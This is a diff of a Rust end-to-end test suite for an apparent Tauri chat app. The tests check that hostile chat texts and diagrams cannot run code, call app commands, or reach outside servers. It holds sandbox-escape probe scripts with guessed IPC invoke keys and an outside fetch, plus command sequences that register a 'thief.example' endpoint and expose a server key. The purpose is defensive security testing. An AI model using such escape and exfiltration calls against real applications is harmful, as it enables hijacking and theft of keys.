@@ -14,6 +14,8 @@ use crate::support::{ponder_json, put_chat};
 /// The payloads. `ran` is a function that must not be called, and `OUTSIDE` the host of a server that must get no
 /// request.
 const PAYLOADS: &str = include_str!("../ui/src/testing/payloads.json");
+/// Counts the calls of functions that hostile texts name.
+const COUNT_CALLS: &str = "window.calls = 0; window.ran = window.alert = () => { window.calls += 1 }";
 /// Turns of a chat.
 const TURNS: usize = 10;
 
@@ -130,6 +132,21 @@ fn draw(window: &Window) -> Vec<(bool, Duration)> {
     (0..count).map(drawn).collect()
 }
 
+/// Tries every way to the app's commands from the frame in which diagrams are drawn, where a script of a hostile diagram
+/// would be. Returns the frame's origin and what is there of Tauri.
+fn reach_out_of_the_frame(window: &Window, outside: &str) -> Value {
+    let script = "const command = { cmd: 'open_window', callback: 1, error: 2, payload: { name: 'models' }, options: {} };
+        for (const key of [undefined, '', 'guessed'])
+          window.webkit?.messageHandlers?.ipc?.postMessage(JSON.stringify({ ...command, __TAURI_INVOKE_KEY__: key }));
+        const headers = { 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guessed', 'Content-Type': 'application/json' };
+        fetch('ipc://localhost/open_window', { method: 'POST', headers, body: JSON.stringify(command.payload) }).catch(() => {});
+        fetch(`http://${arguments[0]}/fetched`, { mode: 'no-cors' }).catch(() => {});
+        let parent_read = true;
+        try { void parent.document.title } catch { parent_read = false }
+        return [self.origin, typeof window.__TAURI_INTERNALS__, typeof window.ipc, parent_read]";
+    window.run_in_frame("diagram-frame", script, json!([outside]))
+}
+
 #[test]
 fn hostile_texts_run_nothing_and_ask_nobody() {
     let (home, outside) = (tempfile::tempdir().expect("a folder"), Outside::open());
@@ -145,10 +162,7 @@ fn hostile_texts_run_nothing_and_ask_nobody() {
         put_chat(home.path(), &texts[0], &turns);
     }
     let window = Window::open(home.path());
-    window.run(
-        "window.calls = 0; window.ran = window.alert = () => { window.calls += 1 }",
-        json!([]),
-    );
+    window.run(COUNT_CALLS, json!([]));
     // The list draws the rows in view alone.
     let open = "const list = document.querySelector('[data-testid=chats]');
         const item = document.querySelector(`[data-chat-id='${arguments[0]}']`);
@@ -203,7 +217,7 @@ const WORST: &str = "const { invoke } = window.__TAURI_INTERNALS__;
     const own = (await invoke('models')).find((model) => !model.built_in);
     const calls = [
       ['set_offline', { offline: false }],
-      ['add_endpoint', { name: 'thief', url: 'https://thief.example/v1', key: null }],
+      ['add_endpoint', { name: 'thief', url: 'https://thief.example/v1', key: null, unencryptedKey: false }],
       ['server_key', {}],
       ['new_server_key', {}],
       ['set_server', { on: true, port: 18239, network: true }],
@@ -272,10 +286,7 @@ fn diagrams_are_drawn_when_asked_for_and_hostile_ones_do_nothing() {
     );
     for (dark, environment) in [(false, &[][..]), (true, &[("GTK_THEME", "Adwaita:dark")][..])] {
         let window = Window::open_with(home.path(), environment);
-        window.run(
-            "window.calls = 0; window.ran = window.alert = () => { window.calls += 1 }",
-            json!([]),
-        );
+        window.run(COUNT_CALLS, json!([]));
         let open = |title: &str| {
             let script = "const item = [...document.querySelectorAll('[data-testid=chat-item]')].find((item) => item.textContent.trim() === arguments[0]);
                 item?.click(); return item !== undefined";
@@ -294,12 +305,19 @@ fn diagrams_are_drawn_when_asked_for_and_hostile_ones_do_nothing() {
             window.run(place, json!([number]));
             window.image(&format!("diagrams-{name}{}", if dark { "-dark" } else { "" }));
         }
+        assert_eq!(window.count("diagram-frame"), 1, "one frame draws all of them");
         if !dark {
+            let reached = reach_out_of_the_frame(&window, &outside.address);
+            assert_eq!(reached, json!(["null", "undefined", "undefined", false]));
+            window.run_in_frame("diagram-frame", COUNT_CALLS, json!([]));
             open("Traps");
             let drawn = draw(&window);
             println!("report: hostile diagrams: {drawn:?}");
             window.image("diagrams-hostile");
             sleep(Duration::from_secs(1));
+            assert_eq!(window.open_windows(), 1, "a command was called from the frame");
+            let ran = window.run_in_frame("diagram-frame", "return window.calls", json!([]));
+            assert_eq!(ran, 0, "something ran where diagrams are drawn");
         }
         assert_eq!(window.run("return window.calls", json!([])), 0);
         window.close();
